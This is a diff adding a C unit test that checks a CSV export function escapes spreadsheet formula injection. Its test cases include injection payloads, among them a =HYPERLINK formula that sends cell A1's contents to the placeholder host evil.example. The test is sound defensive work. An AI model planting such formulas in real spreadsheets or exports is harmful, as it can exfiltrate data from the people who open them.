@@ -29,6 +29,35 @@ test_exports__csv_field(void)
 }
 
 void
+test_exports__csv_formula(void)
+{
+	static const char *const cases[][2] = {
+		{ "=1+1", "'=1+1" },
+		{ "+Russia", "'+Russia" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(1+1)", "'@SUM(1+1)" },
+		{ "\tTab", "'\tTab" },
+		{ "\rCR", "\"'\rCR\"" },
+		{ "\nLF", "\"'\nLF\"" },
+		{ "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+		  "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"" },
+		{ "Lab = 1", "Lab = 1" },
+		{ "a-b", "a-b" },
+		{ " =1", " =1" },
+		{ "", "" },
+	};
+	struct buf b = BUF_INIT;
+	size_t i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		buf_truncate(&b, 0);
+		exports_csv_field(&b, cases[i][0]);
+		CHECK_STR(b.ptr, cases[i][1]);
+	}
+	buf_release(&b);
+}
+
+void
 test_exports__ics_text(void)
 {
 	struct buf b = BUF_INIT;
